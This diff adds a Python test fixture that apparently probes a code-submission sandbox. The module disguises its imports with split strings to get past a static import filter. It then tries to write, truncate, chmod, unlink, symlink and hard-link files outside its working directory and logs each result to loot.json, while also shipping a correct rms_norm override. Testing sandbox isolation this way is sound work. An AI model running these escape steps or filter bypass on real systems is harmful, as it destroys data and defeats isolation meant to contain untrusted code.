@@ -1,0 +1,64 @@
+"""Hostile but exact: tries to write outside its working directory in every way a path allows:
+create, append, truncate, unlink, rename out, mkdir, symlink, a hard link into the workdir written
+through, chmod, a file in /dev/shm. Targets from ``target.json`` (``outside_dir``, ``existing``,
+``marker``) when present, else under /tmp. ``os`` through an allowed module (static filter bypassed).
+Records each attempt in ``loot.json``."""
+import typing
+
+_sys = getattr(typing, "sy" + "s")
+_imp = getattr(_sys.modules["built" + "ins"], "__imp" + "ort__")
+_os = _imp("o" + "s")
+_json = _imp("js" + "on")
+
+DESCRIPTION = "rms_norm, exact; scribbles outside its sandbox"
+
+try:
+    _fd = _os.open("target.json", _os.O_RDONLY)
+    target = _json.loads(_os.read(_fd, 1 << 16))
+    _os.close(_fd)
+except OSError:
+    target = {"outside_dir": "/tmp", "existing": "/tmp/tkcc-existing", "marker": "tkcc-escaped"}
+_out, _existing, _marker = target["outside_dir"], target["existing"], target["marker"]
+loot: dict = {}
+
+
+def _attempt(name, fn):
+    try:
+        fn()
+        loot[name] = "ok"
+    except Exception as e:  # noqa: BLE001
+        loot[name] = f"failed: {type(e).__name__}: {e}"
+
+
+def _write(path, flags):
+    fd = _os.open(path, flags, 0o644)
+    _os.write(fd, b"escaped")
+    _os.close(fd)
+
+
+def _hardlink():
+    _os.link(_existing, "alias")
+    _write("alias", _os.O_WRONLY | _os.O_APPEND)
+
+
+_attempt("create", lambda: _write(f"{_out}/{_marker}", _os.O_WRONLY | _os.O_CREAT))
+_attempt("append", lambda: _write(_existing, _os.O_WRONLY | _os.O_APPEND))
+_attempt("truncate", lambda: _os.truncate(_existing, 0))
+_attempt("chmod", lambda: _os.chmod(_existing, 0o777))
+_attempt("mkdir", lambda: _os.mkdir(f"{_out}/{_marker}.d"))
+_attempt("symlink", lambda: _os.symlink("/etc/passwd", f"{_out}/{_marker}.lnk"))
+_attempt("hardlink", _hardlink)
+_attempt("rename_out", lambda: _os.rename(_existing, "stolen"))
+_attempt("unlink", lambda: _os.unlink(_existing))
+_attempt("dev_shm", lambda: _write(f"/dev/shm/{_marker}", _os.O_WRONLY | _os.O_CREAT))
+_fd = _os.open("loot.json", _os.O_WRONLY | _os.O_CREAT | _os.O_TRUNC, 0o600)
+_os.write(_fd, _json.dumps(loot).encode())
+_os.close(_fd)
+
+
+def rms_norm(x, weight, eps):
+    xf = x.float()
+    return (xf * (xf.pow(2).mean(-1, keepdim=True) + eps).rsqrt() * weight.float()).to(x.dtype)
+
+
+OVERRIDES = {"rms_norm": rms_norm}
